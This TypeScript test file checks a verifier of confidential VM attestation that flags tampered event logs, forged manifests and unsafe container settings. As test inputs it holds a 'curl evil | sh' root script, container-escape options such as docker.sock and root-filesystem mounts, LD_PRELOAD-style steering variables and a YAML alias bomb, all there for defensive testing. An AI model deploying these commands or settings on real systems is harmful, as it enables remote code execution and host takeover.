/** Each VM here is truly measured and signed by a simulated platform: what is wrong with it, one line must say. */
import { expect } from "chai";
import { bytesToHex, sha256, stringToBytes } from "viem";
import { parseQuote, UnsupportedQuoteError } from "../../../protocol/quote/parseQuote.ts";
import { fails, holds } from "../../../sdk/audit/line.ts";
import type { CvmEvidence, CvmPolicy } from "../../../sdk/cvm/case.ts";
import { readInfo } from "../../../sdk/cvm/evidence.ts";
import { verifyCvm } from "../../../sdk/cvm/verifyCvm.ts";
import { type Changes, goodManifest, type Item, idsOf, image, said, simulatedVm, strict } from "./vms.ts";

/** What is open in the best of simulated VMs. */
const open = ["quote.genuine", "quote.tcb", "boot.osImage", "boot.workload"];

/** Lines that are false in a VM, and everything it says of them. */
async function falseLines(changes: Changes, evidence: Partial<CvmEvidence> = {}, policy: Partial<CvmPolicy> = {}) {
  const vm = simulatedVm(changes);
  const report = await verifyCvm({ ...vm.evidence, ...evidence }, { ...vm.policy, ...policy });
  return Object.fromEntries(Object.entries(said(report)).filter(([, text]) => text.startsWith("not verified")));
}

/** The message of a line that alone is false. */
async function onlyFalse(changes: Changes, evidence: Partial<CvmEvidence> = {}) {
  const lines = Object.entries(await falseLines(changes, evidence));
  expect(lines.map(([id]) => id)).to.have.length(1);
  return `${lines[0]?.[0]}: ${lines[0]?.[1].replace("not verified: ", "")}`;
}

const ofManifest = (manifest: object) => onlyFalse({ manifest });
const ofService = (yaml: string) =>
  ofManifest({ docker_compose_file: `services:\n  app:\n    image: ${image}\n    ${yaml}\n` });
const event = (name: string, event_payload: string): Item => ({
  imr: 3,
  event_type: 0x08000001,
  digest: "",
  event: name,
  event_payload,
});
const insert =
  (before: string, ...more: Item[]) =>
  (items: Item[]) => {
    const place = items.findIndex((item) => item.event === before);
    return [...items.slice(0, place), ...more, ...items.slice(place)];
  };

describe("verifyCvm on hostile VMs", () => {
  it("finds nothing false in an honest one, whatever the version of MRCONFIGID", async () => {
    for (const configVersion of [1, 2, 3] as const) {
      const { evidence, policy } = simulatedVm({ configVersion });
      const report = await verifyCvm(evidence, policy);
      expect(idsOf(report, "not verified")).to.deep.equal([]);
      expect(idsOf(report, "cannot be verified")).to.deep.equal(open);
      expect(report).to.deep.include({ simulated: true, warnings: [], scripts: [] });
      expect(said(report, "boot.config")["boot.config"]).to.match(
        new RegExp(`^verified: version ${configVersion}, compose hash 0x`),
      );
    }
  });

  it("verifies all that a policy can ask for", async () => {
    const { evidence, platform, policy } = simulatedVm();
    const { workloadId } = (await verifyCvm(evidence, policy)).measured;
    const report = await verifyCvm(evidence, {
      ...policy,
      expectedWorkload: workloadId,
      allowedOsImages: [bytesToHex(platform.osImageHash)],
      judge: (quote, at, rootKey) => holds(`${quote.length > 4000} ${at === policy.at} ${rootKey === policy.rootKey}`),
    });
    expect(idsOf(report, "cannot be verified")).to.deep.equal(["quote.genuine"]);
    expect(said(report, "quote.tcb")).to.deep.equal({ "quote.tcb": "verified: true true true" });
  });

  it("takes the word of whoever judges the collateral, its errors too", async () => {
    const { evidence, policy } = simulatedVm();
    const refusing = { ...policy, judge: async () => fails("OutOfDate") };
    expect(said(await verifyCvm(evidence, refusing), "quote.tcb")["quote.tcb"]).to.equal("not verified: OutOfDate");
    const throwing = {
      ...policy,
      judge: () => {
        throw new UnsupportedQuoteError("version", 9);
      },
    };
    expect(said(await verifyCvm(evidence, throwing), "quote.tcb")["quote.tcb"]).to.equal(
      "not verified: Quote of version 9 is not supported.",
    );
  });

  it("refuses a quote of another root, and one that is none", async () => {
    const { evidence } = simulatedVm();
    const report = await verifyCvm(evidence, strict);
    expect(report.warnings).to.deep.equal(["nobody signed this quote: what it measures may be made up"]);
    expect(said(report, "quote.s", "quote.g")).to.deep.equal({
      "quote.signature": "not verified: Quote refused, issuer signature: not valid.",
      "quote.genuine": "not verified: the quote's signature does not hold",
    });
    for (const quote of [new Uint8Array(), new Uint8Array(5000).fill(4)]) {
      const refused = await verifyCvm({ ...evidence, answer: { quote } }, strict).catch((error) => error);
      expect(refused.name).to.match(/^Quote\.(MalformedQuoteError|UnsupportedQuoteError)$/);
    }
  });

  it("names system events that are added, doubled or moved", async () => {
    expect(await onlyFalse({ events: insert("system-ready", event("backdoor", "00")) })).to.equal(
      'boot.log: Event "backdoor" stands in the system part of the log, and is not known.',
    );
    expect(await onlyFalse({ events: insert("system-ready", event("compose-hash", "ee".repeat(32))) })).to.equal(
      'boot.log: Event "compose-hash" stands in the system part of the log twice.',
    );
    const moved = (items: Item[]) => {
      const id = items.filter((item) => item.event === "app-id");
      return insert("instance-id", ...id)(items.filter((item) => item.event !== "app-id"));
    };
    expect(await onlyFalse({ events: moved })).to.equal(
      'boot.log: Event "app-id" stands after "compose-hash" in the log.',
    );
  });

  it("ignores what apps append after system-ready", async () => {
    const events = (items: Item[]) => [...items, event("compose-hash", "ee".repeat(32)), event("anything", "")];
    expect(await falseLines({ events })).to.deep.equal({});
  });

  it("refuses a log that was changed after it was measured", async () => {
    const { evidence, items, policy } = simulatedVm();
    const compose = items.findIndex((item) => item.event === "compose-hash");
    const variants: Item[][] = [
      items.map((item, place) => (place === compose ? { ...item, event_payload: "ee".repeat(32) } : item)),
      insert("system-ready", event("storage-fs", "00"))(items),
      items.toSpliced(compose, 1),
      items.toSpliced(compose - 1, 2, items[compose] as Item, items[compose - 1] as Item),
      [...items, event("late", "00")],
    ];
    for (const variant of variants) {
      const answer = { ...evidence.answer, eventLog: JSON.stringify(variant) };
      const lines = said(await verifyCvm({ ...evidence, answer }, policy), "boot", "id");
      expect(lines["boot.log"]).to.match(/^not verified: The event log replays to 0x\w+, the quote has RTMR3 0x/);
      expect(lines["boot.config"]).to.match(/^verified: version 1/);
      expect(lines["id.app"]).to.match(/^cannot be verified: The event log replays to/);
    }
    const firmware = items.findIndex((item) => item.imr === 1);
    const wrong = items.map((item, place) => (place === firmware ? { ...item, digest: "00".repeat(48) } : item));
    const answer = { ...evidence.answer, eventLog: JSON.stringify(wrong) };
    const line = said(await verifyCvm({ ...evidence, answer }, policy), "boot.firmware")["boot.firmware"];
    expect(line).to.match(/^not verified: the log replays to 0x\w+, the quote has RTMR1 0x/);
  });

  it("refuses a manifest that is not the measured one, by a space or a byte order mark", async () => {
    const { evidence, composeHash, policy } = simulatedVm();
    const text = new TextDecoder().decode(evidence.appCompose);
    for (const other of [`${text} `, `\ufeff${text}`, text.replace('"app"', '"apq"')]) {
      const bytes = stringToBytes(other);
      const lines = said(await verifyCvm({ ...evidence, appCompose: bytes }, policy), "app.compose", "app.images");
      expect(lines).to.deep.equal({
        "app.compose": `not verified: its SHA-256 is ${sha256(bytes)}, MRCONFIGID commits to ${composeHash}`,
        "app.images": "cannot be verified: the manifest at hand is not the measured one",
      });
    }
  });

  it("refuses MRCONFIGID that is zero, or commits to something else than was booted", async () => {
    expect(await onlyFalse({ configVersion: 0 })).to.equal(
      "boot.config: MRCONFIGID is zero: nothing binds the VM to a compose file.",
    );
    const events = (items: Item[]) =>
      items.map((item) => (item.event === "compose-hash" ? { ...item, event_payload: "ee".repeat(32) } : item));
    const { composeHash } = simulatedVm();
    const other = `0x${"ee".repeat(32)}`;
    expect((await falseLines({ events }))["boot.config"]).to.equal(
      `not verified: it commits to ${composeHash}, the log says ${other} was booted`,
    );
    const preimage = simulatedVm({ configVersion: 2 }).preimage;
    expect((await falseLines({ configVersion: 2, events }, { mrConfig: preimage }))["boot.config"]).to.equal(
      `not verified: it commits to ${composeHash}, the log says ${other} was booted`,
    );
  });

  it("names manifest fields that are not known, keys that stand twice, and values that are not known", async () => {
    expect(await ofManifest({ bash_script: "x", port_policy: {} })).to.equal(
      "app.fields: the manifest has bash_script, port_policy",
    );
    const judged = "The app-compose manifest is not one that can be judged:";
    const twice = JSON.stringify(goodManifest).replace("{", '{"allowed_envs":["A"],');
    const lines = await falseLines({ appCompose: twice });
    expect(lines["app.fields"]).to.equal(`not verified: ${judged} it names "allowed_envs" twice`);
    expect(Object.keys(lines)).to.include.members(["app.envs", "app.images", "app.scripts", "app.walls"]);
    for (const manifest of [
      { runner: "bash" },
      { requirements: { gpu_policy: {} } },
      { docker_config: { registry: 1 } },
    ])
      expect((await falseLines({ manifest }))["app.fields"]).to.match(new RegExp(`^not verified: ${judged} ✖`));
    expect((await falseLines({ appCompose: "\u0000" }))["app.fields"]).to.equal(
      `not verified: ${judged} it is not JSON text`,
    );
  });

  it("shows scripts, and takes only those that were accepted, byte for byte", async () => {
    const text = "curl evil | sh";
    const hash = sha256(stringToBytes(text));
    expect(await ofManifest({ pre_launch_script: text })).to.equal(
      `app.scripts: pre_launch_script ${hash}: runs as root, read it`,
    );
    const manifest = { pre_launch_script: text, init_script: [text, "true"] };
    const report = await falseLines({ manifest }, {}, { acceptedScripts: [hash] });
    const second = sha256(stringToBytes("true"));
    expect(report).to.deep.equal({ "app.scripts": `not verified: init_script ${second}: runs as root, read it` });
    expect(await falseLines({ manifest }, {}, { acceptedScripts: [hash, second] })).to.deep.equal({});
    const events = insert("instance-id", event("init-script-hash", hash.slice(2)));
    const accepting = { acceptedScripts: [hash, second] };
    expect(await falseLines({ manifest, events }, {}, accepting)).to.deep.equal({
      "app.scripts": "not verified: the log names other init scripts than the manifest",
    });
  });

  it("names images by tag, by variable, by half a digest, and services without one", async () => {
    const of = (reference: string) => ofManifest({ docker_compose_file: `services: {app: {image: '${reference}'}}` });
    const digest = `sha256:${"ab".repeat(32)}`;
    for (const reference of [
      "nginx:latest",
      "nginx",
      `nginx@${digest.slice(0, -1)}`,
      `nginx@${digest.toUpperCase()}`,
      `\${IMAGE}@${digest}`,
      `nginx@${digest} `,
      `nginx@${digest}\${TAG}`,
    ])
      expect(await of(reference)).to.equal(`app.images: app runs ${reference}`);
    expect(await ofManifest({ docker_compose_file: "services: {app: {command: x}}" })).to.equal(
      "app.images: app has no image",
    );
  });

  it("names what comes from outside of the measured text", async () => {
    for (const field of ["build: .", "env_file: .env", "extends: {file: other.yaml}", "develop: {}", "label_file: x"])
      expect(await ofService(field)).to.equal(`app.files: app has ${field.split(":")[0]}`);
    const top = (yaml: string) => ofManifest({ docker_compose_file: `services: {app: {image: ${image}}}\n${yaml}` });
    expect(await top("include: [other.yaml]")).to.equal("app.files: the file includes others");
    expect(await top("configs: {c: {file: ./c}}")).to.equal("app.files: config c has file");
    expect(await top("secrets: {s: {environment: S}}")).to.equal("app.files: secret s has environment");
    expect(await top("models: {m: {}}")).to.equal("app.fields: the file has models");
    expect(await ofService("post_start: [{command: x, privileged: true}]")).to.equal("app.fields: app has post_start");
  });

  it("names every way out of a container", async () => {
    for (const [yaml, problem] of [
      ["privileged: true", "has privileged: true"],
      ["privileged: yes", "has privileged: yes"],
      [`privileged: \${P}`, `has privileged: \${P}`],
      ["network_mode: host", "has network_mode: host"],
      ["network_mode: container:x", "has network_mode: container:x"],
      [`network_mode: \${N}`, `has network_mode: \${N}`],
      ["pid: host", "has pid: host"],
      ["ipc: host", "has ipc: host"],
      ["uts: host", "has uts"],
      ["userns_mode: host", "has userns_mode"],
      ["cgroup: host", "has cgroup: host"],
      ["cap_add: [SYS_ADMIN]", "has cap_add"],
      ["devices: [/dev/kvm]", "has devices"],
      ["use_api_socket: true", "has use_api_socket"],
      ["security_opt: ['seccomp:unconfined']", "has security_opt seccomp:unconfined"],
      ["volumes: [/var/run/docker.sock:/s]", "mounts /var/run/docker.sock:/s"],
      ["volumes: [/:/host:ro]", "mounts /:/host:ro"],
      ["volumes: [./a:/a]", "mounts ./a:/a"],
      ["volumes: [~/a:/a]", "mounts ~/a:/a"],
      [`volumes: ['\${A}']`, `mounts \${A}`],
      [`volumes: ['\${A}:/a']`, `mounts \${A}:/a`],
      ["volumes: [/run/dstack.sock/../docker.sock:/s]", "mounts /run/dstack.sock/../docker.sock:/s"],
      ["volumes: [{type: bind, source: /, target: /h}]", "mounts / (bind)"],
      ["volumes: [{type: bind, source: data, target: /h}]", "mounts data (bind)"],
      [`volumes: [{type: volume, source: '\${A}', target: /h}]`, `mounts \${A} (volume)`],
      ["volumes: [{type: image, source: nginx, target: /h}]", "mounts nginx (image)"],
      ["deploy: {resources: {reservations: {devices: [{}]}}}", "has deploy.resources.reservations.devices"],
    ] as const)
      expect(await ofService(yaml)).to.equal(`app.walls: app ${problem}`);
    for (const yaml of [
      "privileged: false",
      "network_mode: none",
      "security_opt: ['no-new-privileges:true']",
      "volumes: [/var/run/dstack.sock:/var/run/dstack.sock, data:/data, /anonymous]",
      "volumes: [{type: volume, source: data, target: /d}, {type: tmpfs, target: /t}]",
      "deploy: {resources: {limits: {cpus: '1'}}}",
    ])
      expect(
        await falseLines({
          manifest: { docker_compose_file: `services:\n  app:\n    image: ${image}\n    ${yaml}\n` },
        }),
        yaml,
      ).to.deep.equal({});
    const top = (yaml: string) => ofManifest({ docker_compose_file: `services: {app: {image: ${image}}}\n${yaml}` });
    expect(await top("volumes: {v: {driver_opts: {o: bind, device: /}}}")).to.equal(
      "app.walls: volume v has driver_opts",
    );
    expect(await top("networks: {n: {external: true, name: host}}")).to.equal("app.walls: network n has external");
    expect(await top("networks: {n: {name: host}}")).to.equal("app.walls: network n is the VM's");
    expect(await top("networks: {host: {internal: true}}")).to.equal("app.walls: network host is the VM's");
    for (const name of ["/", "$X", "container:a"])
      expect(await top(`networks: {n: {name: "${name}"}}`)).to.equal(
        "app.walls: network n has another name than an app's own",
      );
    for (const item of ["{name: /}", "{external: {name: /}}", "{name: [a]}"])
      expect(await top(`volumes: {v: ${item}}`)).to.equal("app.walls: volume v has another name than an app's own");
    expect(await top("networks: {n: {driver: host}}")).to.equal("app.walls: network n has driver");
  });

  it("sees through merge keys, and refuses YAML that readers could read differently", async () => {
    const merged = `x-a: &a {privileged: true}\nservices: {app: {image: ${image}, <<: *a}}`;
    expect(await ofManifest({ docker_compose_file: merged })).to.equal("app.walls: app has privileged: true");
    const one = `services: {app: {image: ${image}}}`;
    for (const [text, fact] of [
      [`${one}\n---\n${one}`, /expected a single document/],
      [`${one}\nservices: {}`, /duplicated mapping key/],
      [`${one}\nx-a: !!binary eA==`, /unknown tag/],
      [`${one} # \u2028privileged: true`, /it holds character 2028/],
      [`${one} # \u0085x`, /it holds character 0085/],
      [`${one} # \rx`, /it holds character 000d/],
      ["", /it has no services/],
      ["services: [a]", /services is not a mapping/],
      ["services: {app: nginx}", /service app is not a mapping/],
      [`x: ${"[".repeat(60)}`, /nesting exceeded/],
      [`services: {app: {image: ${image}, volumes: [${"a, ".repeat(257)}]}}`, /a list has 257 items, limit 256/],
      [`services: {${Array.from({ length: 257 }, (_, i) => `s${i}: {}`)}}`, /services has 257 entries, limit 256/],
    ] as const) {
      const lines = await falseLines({ manifest: { docker_compose_file: text } });
      for (const id of ["app.fields", "app.images", "app.files", "app.walls"]) {
        expect(lines[id], text).to.match(/^not verified: The compose file cannot be judged: /);
        expect(lines[id], text).to.match(fact);
      }
    }
  });

  it("is not made to write out a value that aliases make huge", async () => {
    const bomb = Array.from({ length: 30 }, (_, i) => `x-${i + 1}: &a${i + 1} [*a${i}, *a${i}, *a${i}, *a${i}]`);
    const service = (yaml: string) => `x-0: &a0 [${"x, ".repeat(9)}]\n${bomb.join("\n")}\nservices: {app: {${yaml}}}`;
    const of = (yaml: string) => ofManifest({ docker_compose_file: service(`image: ${image}, ${yaml}`) });
    expect(await of("privileged: *a30")).to.equal("app.walls: app has privileged: (not text)");
    expect(await of("volumes: [{type: *a30}]")).to.equal("app.walls: app mounts (not text) ((not text))");
    expect(await of("devices: *a30")).to.equal("app.walls: app has devices");
  });

  it("names variables that the host may set, and those that no policy may allow", async () => {
    const manifest = { allowed_envs: ["RPC_URL", "TOKEN", "BASH_ENV", "COMPOSE_FILE", "LD_PRELOAD"] };
    const allowed = { allowedEnvs: ["RPC_URL", "BASH_ENV", "COMPOSE_FILE", "LD_PRELOAD"] };
    expect(await falseLines({ manifest }, {}, allowed)).to.deep.equal({
      "app.envs": "not verified: TOKEN",
      "app.steering": "not verified: BASH_ENV; COMPOSE_FILE; LD_PRELOAD",
    });
    const { evidence, policy } = simulatedVm({ manifest });
    expect((await verifyCvm(evidence, policy)).warnings).to.deep.equal([
      "the host may choose whom the app talks to: RPC_URL",
    ]);
  });

  it("says what is public", async () => {
    const { evidence, policy } = simulatedVm({ manifest: { public_logs: undefined, public_sysinfo: true } });
    expect((await verifyCvm(evidence, policy)).warnings).to.deep.equal([
      "anyone may read the containers' logs (public_logs)",
      "anyone may read load, memory and disks of the VM (public_sysinfo)",
    ]);
  });

  it("makes strangers' text harmless", async () => {
    const manifest = { allowed_envs: ["\u001b[31m\u202eURL_URL".repeat(99)] };
    const { evidence, policy } = simulatedVm({ manifest });
    const report = await verifyCvm(evidence, policy);
    const line = said(report, "app.envs")["app.envs"] ?? "";
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
    expect(`${line} ${report.warnings}`).not.to.match(/[\u001b\u202e]/);
    expect(line.length).to.be.below(450);
  });
});

describe("verifyCvm and who the app is", () => {
  it("finds Info that contradicts the quote or the log", async () => {
    const vm = simulatedVm();
    const { rtMr0, rtMr1, rtMr2, rtMr3, mrTd } = parseQuote(vm.evidence.answer.quote).report;
    const digits = (bytes: Uint8Array) => bytesToHex(bytes).slice(2);
    const tcb = {
      mrtd: digits(mrTd),
      rtmr0: digits(rtMr0),
      rtmr1: digits(rtMr1),
      rtmr2: digits(rtMr2),
      rtmr3: digits(rtMr3),
      compose_hash: vm.composeHash.slice(2),
    };
    const honest = {
      app_id: vm.composeHash.slice(2, 42),
      instance_id: digits(vm.platform.instanceId),
      key_provider_info: vm.platform.keyProviderInfo,
      os_image_hash: digits(vm.platform.osImageHash),
      tcb_info: JSON.stringify(tcb),
    };
    const falseWith = async (change: object) => {
      const info = readInfo(stringToBytes(JSON.stringify({ ...honest, ...change })));
      return await falseLines({}, { info });
    };
    const wrong = "ee".repeat(32);
    const inTcb = (change: object) => ({ tcb_info: JSON.stringify({ ...tcb, ...change }) });
    const log = vm.items.map((item) => (item.event === "app-id" ? { ...item, event_payload: "ee".repeat(20) } : item));
    const forged = vm.items.map((item) => (item.imr === 1 ? { ...item, digest: "ee".repeat(48) } : item));
    expect(await falseWith({})).to.deep.equal({});
    expect(await falseWith(inTcb({ event_log: vm.items.filter(({ imr }) => imr === 3) }))).to.deep.equal({});
    const cases: [change: object, id: string, reason: RegExp][] = [
      [{ app_id: "ee".repeat(20) }, "id.app", /, app_id in Info says 0xe{40}$/],
      [{ app_name: "another" }, "info.name", /^not verified: app_name in Info is another, in the manifest app$/],
      [{ instance_id: "ee".repeat(20) }, "id.instance", /, instance_id in Info says 0xe{40}$/],
      [{ key_provider_info: '{"name":"none","id":""}' }, "id.keys", /, key_provider_info in Info says none$/],
      [{ key_provider_info: '{"name":"kms","id":"ee"}' }, "id.keys", /, key_provider_info in Info says 0xee$/],
      [{ key_provider_info: "?" }, "id.keys", /: "\?" is no key provider\.$/],
      [{ os_image_hash: wrong }, "boot.osImage", /, os_image_hash in Info is 0xe{64}$/],
      [inTcb({ os_image_hash: wrong }), "boot.osImage", /, tcb_info.os_image_hash in Info is 0xe{64}$/],
      [{ vm_config: { os_image_hash: wrong } }, "boot.osImage", /, vm_config.os_image_hash in Info is 0xe{64}$/],
      [{ compose_hash: wrong }, "info.composeHash", /: compose_hash in Info is 0xe{64}, it is 0x/],
      [inTcb({ compose_hash: wrong }), "info.composeHash", /: tcb_info.compose_hash in Info is 0xe{64}, it is 0x/],
      [{ mr_aggregated: wrong }, "info.aggregate", /: mr_aggregated in Info is 0xe{64}, it is 0x/],
      [inTcb({ mr_aggregated: wrong }), "info.aggregate", /: tcb_info.mr_aggregated in Info is 0xe{64}, it is 0x/],
      [inTcb({ app_compose: "{}" }), "info.appCompose", /: the SHA-256 of app_compose in Info is 0x44136f/],
      [inTcb({ event_log: log }), "info.eventLog", /: The event log replays to 0x\w{96}, the quote has RTMR3 0x/],
      [
        inTcb({ event_log: forged }),
        "info.eventLog",
        /: event_log in Info replays to 0x\w{96}, the quote has RTMR1 0x/,
      ],
      ...["mrtd", "rtmr0", "rtmr1", "rtmr2", "rtmr3"].map((register): [object, string, RegExp] => [
        inTcb({ [register]: "ee".repeat(48) }),
        "info.registers",
        new RegExp(`: ${register} is 0xe{96} in Info, another in the quote$`),
      ]),
    ];
    for (const [change, id, reason] of cases) {
      const lines = await falseWith(change);
      expect(Object.keys(lines), reason.source).to.deep.equal([id]);
      expect(lines[id]).to.match(reason);
    }
    const { warnings } = await verifyCvm(
      { ...vm.evidence, info: readInfo(stringToBytes(JSON.stringify({ ...honest, device_id: "ee", app_cert: "" }))) },
      vm.policy,
    );
    expect(warnings).to.deep.equal(["nobody here speaks for device_id in Info"]);
    const silent = readInfo(stringToBytes("{}"));
    expect(said(await verifyCvm({ ...vm.evidence, info: silent }, vm.policy), "info")).to.deep.equal({
      "info.registers": "cannot be verified: Info has no mrtd",
      "info.composeHash": "cannot be verified: Info has none",
    });
  });

  it("finds a key provider that is not the one that the manifest asks for", async () => {
    expect(await ofManifest({ key_provider: "local" })).to.match(
      /^id.keys: the log says kms, the manifest says local$/,
    );
    expect(await ofManifest({ key_provider_id: "ee" })).to.match(
      /^id.keys: the log says 0x30\w+, the manifest says 0xee$/,
    );
    const events = (items: Item[]) =>
      items.map((item) =>
        item.event === "key-provider" ? { ...item, event_payload: Buffer.from("{}").toString("hex") } : item,
      );
    expect(await onlyFalse({ events })).to.equal('id.keys: "{}" is no key provider.');
  });
});
